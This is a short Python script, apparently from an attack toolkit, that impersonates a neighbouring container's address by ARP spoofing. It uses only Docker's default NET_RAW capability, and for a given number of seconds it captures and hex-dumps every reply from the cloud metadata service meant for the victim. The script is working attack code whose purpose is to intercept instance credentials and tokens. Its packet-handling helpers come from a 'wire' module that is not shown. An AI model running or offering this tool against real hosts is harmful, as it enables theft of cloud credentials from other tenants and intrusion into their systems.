"""Claims a neighbour's address for some seconds and writes down every answer of the metadata service that comes by.

eavesdrop.py MODE VICTIM-IP VICTIM-MAC GATEWAY SECONDS, with no more than Docker's default capabilities (NET_RAW); see
wire.Name. Prints the number of diverted frames and, in hex, all their data.
"""
import sys
import time

from wire import Name, wire

name = Name(*sys.argv[1:5])
wire.settimeout(0.005)
frames, heard, end = 0, b"", time.time() + float(sys.argv[5])
while time.time() < end:
    name.claim()
    try:
        segment = name.heard(wire.recv(65535))
    except TimeoutError:
        continue
    if segment:
        frames += 1
        heard += segment[3]
print(frames, heard.hex())
